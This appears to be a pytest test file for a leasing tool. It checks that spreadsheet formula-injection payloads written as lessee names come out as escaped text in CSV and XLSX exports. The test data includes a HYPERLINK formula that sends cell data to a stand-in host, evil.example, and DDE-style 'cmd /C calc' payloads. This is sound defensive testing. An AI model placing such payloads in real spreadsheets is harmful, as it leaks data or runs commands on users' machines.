"""Spreadsheet formula injection (OWASP CSV injection): text a person's spreadsheet would run as a formula — a
lessee named `=HYPERLINK(...)`, `@SUM(...)`, `+…`, `-…` — is written as text in every CSV and XLSX leaseguard
writes: behind an apostrophe in a CSV, as a quote-prefixed string cell in an XLSX. Plain numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from leaseguard.cli.main import app
from leaseguard.ingest import import_paths
from leaseguard.sheets import Column, formula_safe, is_formula_like, write_csv, write_table
from leaseguard.synth import generate_book
from leaseguard.workspace import DATABASE_URL_ENV, HOME_ENV, init_workspace

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+86-21-5555",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["上海某某融资租赁有限公司", "-1,234.56", "+5", "-0.05", "12.5%", "a=b", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_goes_behind_an_apostrophe(text: str) -> None:
    assert is_formula_like(text)
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_names_and_plain_numbers_are_left_alone(text: str) -> None:
    assert not is_formula_like(text)
    assert formula_safe(text) == text


def test_a_csv_keeps_hostile_text_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    out = tmp_path / "names.csv"
    frame = pl.DataFrame({"name": HOSTILE + HARMLESS, "n": list(range(len(HOSTILE + HARMLESS)))})
    write_csv(frame, out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["name"] for row in rows] == ["'" + text for text in HOSTILE] + HARMLESS
    assert [int(row["n"]) for row in rows] == list(range(len(rows)))


def test_an_xlsx_cell_of_hostile_text_is_a_quoted_string_never_a_formula(tmp_path: Path) -> None:
    out = tmp_path / "names.xlsx"
    columns = [Column("name", "名称"), Column("amount", "金额", "money_fen")]
    write_table(out, columns, [(text, -5) for text in HOSTILE + HARMLESS], sheet="名单")
    sheet = load_workbook(out).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=3)]
    assert [cell.value for cell in cells] == HOSTILE + [text or None for text in HARMLESS]
    for cell in cells[: len(HOSTILE)]:
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert {row[1].value for row in sheet.iter_rows(min_row=3)} == {-0.05}


@pytest.fixture(scope="module")
def hostile_workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A book of 60 contracts whose first lessees have hostile names, imported and classified on one day."""
    folder = tmp_path_factory.mktemp("hostile") / "book"
    generate_book(folder, contracts=60, seed=5)
    contracts = pl.read_csv(folder / "contracts.csv", infer_schema=False)
    names = contracts["lessee_name"].to_list()
    names[: len(HOSTILE) - 2] = HOSTILE[:-2]
    contracts.with_columns(pl.Series("lessee_name", names)).write_csv(folder / "contracts.csv")
    mp = pytest.MonkeyPatch()
    mp.delenv(HOME_ENV, raising=False)
    mp.delenv(DATABASE_URL_ENV, raising=False)
    workspace = init_workspace(tmp_path_factory.mktemp("hostile-ws") / "ws")
    engine = workspace.engine()
    assert all(report.rejected == 0 for report in import_paths(engine, [folder]))
    engine.dispose()
    yield workspace.root  # type: ignore[misc]
    mp.undo()


def test_the_call_list_writes_a_hostile_lessee_name_as_text(hostile_workspace: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    day = dt.date(2024, 6, 30).isoformat()
    ran = runner.invoke(app, ["run", "daily", "--as-of", day, "-w", str(hostile_workspace)])
    assert ran.exit_code == 0, ran.output
    out = tmp_path / "calls.csv"
    warned = runner.invoke(
        app, ["book", "warn", "--as-of", day, "--out", str(out), "-w", str(hostile_workspace)]
    )
    assert warned.exit_code == 0, warned.output
    with out.open(encoding="utf-8-sig", newline="") as handle:
        names = {row["lessee_name"] for row in csv.DictReader(handle)}
    shown = {name for name in names if name.startswith("'")}
    assert shown and shown <= {"'" + text for text in HOSTILE}
    assert not any(is_formula_like(name) for name in names)
